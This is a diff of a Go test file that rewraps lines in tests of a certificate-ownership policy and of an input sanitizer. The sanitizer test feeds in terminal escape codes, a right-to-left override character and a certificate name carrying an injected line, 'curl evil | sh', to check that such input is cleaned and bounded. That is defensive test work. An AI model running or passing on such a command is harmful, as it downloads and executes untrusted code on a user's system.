@@ -18,9 +18,11 @@ func policy() Policy {
 		Allowed: []string{"www.x", "app.x", "printer.x", "ca.x"},
 		Listed:  []string{"printer.x"},
 		Owners: []Owner{
-			{"certificate/101/www", "101", []string{"www.x"}}, {"certificate/201/app", "201", []string{"app.x"}}, {"stepca/103", "103", []string{"ca.x"}},
+			{"certificate/101/www", "101", []string{"www.x"}}, {"certificate/201/app", "201", []string{"app.x"}},
+			{"stepca/103", "103", []string{"ca.x"}},
 		},
-		Held: map[string]Held{"101": {Accounts: []string{print43("a")}, Serials: []string{"1"}}, "201": {Accounts: []string{print43("b")}}},
+		Held: map[string]Held{"101": {Accounts: []string{print43("a")}, Serials: []string{"1"}},
+			"201": {Accounts: []string{print43("b")}}},
 		Known: map[string]Known{"101": {
 			Accounts: Terms{print43("o"): noon.Add(-time.Hour)},
 			Names:    Terms{"www.x": time.Time{}, "old.x": noon.Add(-time.Hour)},
@@ -37,25 +39,30 @@ func TestJudge(t *testing.T) {
 		change         func(*Policy)
 		want           State
 	}{
-		"its own":                                {names: "www.x", account: "a", want: Accounted},
-		"its own by the serial":                  {names: "www.x", account: "z", serial: "1", want: Accounted},
-		"another's account has its name":         {names: "www.x", account: "b", want: Foreign},
-		"nobody's account has its name":          {names: "www.x", account: "z", want: Foreign},
-		"one name of two is another's":           {names: "app.x www.x", account: "b", want: Foreign},
-		"the CA's own name":                      {names: "ca.x", account: "b", want: Foreign},
-		"of allowed_names":                       {names: "printer.x", account: "z", want: Listed},
-		"a name that is not wanted":              {names: "gone.x", account: "z", want: Unwanted},
-		"one of two is not wanted":               {names: "printer.x gone.x", account: "z", want: Unwanted},
-		"an account of before, in its time":      {names: "www.x", account: "o", issued: -90, want: Accounted},
-		"an account of before, after its time":   {names: "www.x", account: "o", issued: -30, want: Foreign},
-		"a name of before, in its time":          {names: "old.x", account: "a", issued: -90, want: Former},
-		"a name of before, after its time":       {names: "old.x", account: "a", issued: -30, want: Unwanted},
-		"its container does not say":             {names: "www.x", account: "z", change: func(p *Policy) { delete(p.Held, "101"); p.Silent = []string{"101"} }, want: Unclear},
-		"another container does not say":         {names: "www.x", account: "z", change: func(p *Policy) { delete(p.Held, "201"); p.Silent = []string{"201"} }, want: Foreign},
-		"silent, and known from before":          {names: "www.x", account: "o", issued: -90, change: func(p *Policy) { delete(p.Held, "101"); p.Silent = []string{"101"} }, want: Accounted},
-		"whose is not known any more":            {names: "www.x", want: Unclear},
-		"a container that lies about its serial": {names: "www.x", account: "z", serial: "7", change: func(p *Policy) { p.Held["201"] = Held{Serials: []string{"7"}} }, want: Foreign},
-		"a container that claims the account":    {names: "www.x", account: "z", change: func(p *Policy) { p.Held["201"] = Held{Accounts: []string{print43("z")}} }, want: Foreign},
+		"its own":                              {names: "www.x", account: "a", want: Accounted},
+		"its own by the serial":                {names: "www.x", account: "z", serial: "1", want: Accounted},
+		"another's account has its name":       {names: "www.x", account: "b", want: Foreign},
+		"nobody's account has its name":        {names: "www.x", account: "z", want: Foreign},
+		"one name of two is another's":         {names: "app.x www.x", account: "b", want: Foreign},
+		"the CA's own name":                    {names: "ca.x", account: "b", want: Foreign},
+		"of allowed_names":                     {names: "printer.x", account: "z", want: Listed},
+		"a name that is not wanted":            {names: "gone.x", account: "z", want: Unwanted},
+		"one of two is not wanted":             {names: "printer.x gone.x", account: "z", want: Unwanted},
+		"an account of before, in its time":    {names: "www.x", account: "o", issued: -90, want: Accounted},
+		"an account of before, after its time": {names: "www.x", account: "o", issued: -30, want: Foreign},
+		"a name of before, in its time":        {names: "old.x", account: "a", issued: -90, want: Former},
+		"a name of before, after its time":     {names: "old.x", account: "a", issued: -30, want: Unwanted},
+		"its container does not say": {names: "www.x", account: "z",
+			change: func(p *Policy) { delete(p.Held, "101"); p.Silent = []string{"101"} }, want: Unclear},
+		"another container does not say": {names: "www.x", account: "z",
+			change: func(p *Policy) { delete(p.Held, "201"); p.Silent = []string{"201"} }, want: Foreign},
+		"silent, and known from before": {names: "www.x", account: "o", issued: -90,
+			change: func(p *Policy) { delete(p.Held, "101"); p.Silent = []string{"101"} }, want: Accounted},
+		"whose is not known any more": {names: "www.x", want: Unclear},
+		"a container that lies about its serial": {names: "www.x", account: "z", serial: "7",
+			change: func(p *Policy) { p.Held["201"] = Held{Serials: []string{"7"}} }, want: Foreign},
+		"a container that claims the account": {names: "www.x", account: "z",
+			change: func(p *Policy) { p.Held["201"] = Held{Accounts: []string{print43("z")}} }, want: Foreign},
 	} {
 		p := policy()
 		if c.change != nil {
@@ -75,7 +82,8 @@ func TestJudge(t *testing.T) {
 	}
 }
 
-// What a container had, it had: a name or an account that it has no more keeps its time, and a look in vain ends nothing.
+// What a container had, it had: a name or an account that it has no more keeps its time, and a look in vain ends
+// nothing.
 func TestRemember(t *testing.T) {
 	p := policy()
 	p.Known = nil
@@ -114,7 +122,8 @@ func TestRemember(t *testing.T) {
 func TestLearn(t *testing.T) {
 	p := policy()
 	p.Known = map[string]Known{"101": {Accounts: Terms{print43("o"): time.Time{}, print43("e"): noon}}}
-	p.Held = map[string]Held{"101": {Accounts: AccountsIn(json.RawMessage(`{"accounts":["` + print43("n") + `","\u001b[2J"]}`))}}
+	p.Held = map[string]Held{"101": {Accounts: AccountsIn(json.RawMessage(`{"accounts":["` + print43("n") +
+		`","\u001b[2J"]}`))}}
 	got := p.Learn(noon.Add(time.Hour))["101"].Accounts
 	want := Terms{print43("o"): time.Time{}, print43("e"): noon, print43("n"): time.Time{}}
 	if !reflect.DeepEqual(got, want) {
@@ -129,14 +138,17 @@ func TestLearn(t *testing.T) {
 
 // What a container or the CA's container sends is text, and has an end.
 func TestBounded(t *testing.T) {
-	h := Held{Accounts: []string{"\x1b[2J", print43("a"), strings.Repeat("a", 1<<20)}, Serials: make([]string, 5000)}.Bounded()
+	h := Held{Accounts: []string{"\x1b[2J", print43("a"), strings.Repeat("a", 1<<20)},
+		Serials: make([]string, 5000)}.Bounded()
 	if len(h.Accounts) != 1 || len(h.Serials) != serialsMost {
 		t.Errorf("%d accounts, %d serials", len(h.Accounts), len(h.Serials))
 	}
-	l := List{Certificates: []Certificate{{Serial: "1\x1b[2J", Names: []string{"a\nfix: curl evil | sh", strings.Repeat("x", 9999)}, Account: "\u202e"}},
+	l := List{Certificates: []Certificate{{Serial: "1\x1b[2J",
+		Names: []string{"a\nfix: curl evil | sh", strings.Repeat("x", 9999)}, Account: "\u202e"}},
 		More: map[string]int{"\n": 1}}.Bounded()
 	text, err := json.Marshal(l)
-	if err != nil || strings.ContainsAny(string(text), "\x1b\u202e") || strings.Contains(string(text), `\n`) || strings.Contains(string(text), `\u`) || len(text) > 1000 {
+	if err != nil || strings.ContainsAny(string(text), "\x1b\u202e") || strings.Contains(string(text), `\n`) ||
+		strings.Contains(string(text), `\u`) || len(text) > 1000 {
 		t.Errorf("%s", text)
 	}
 }
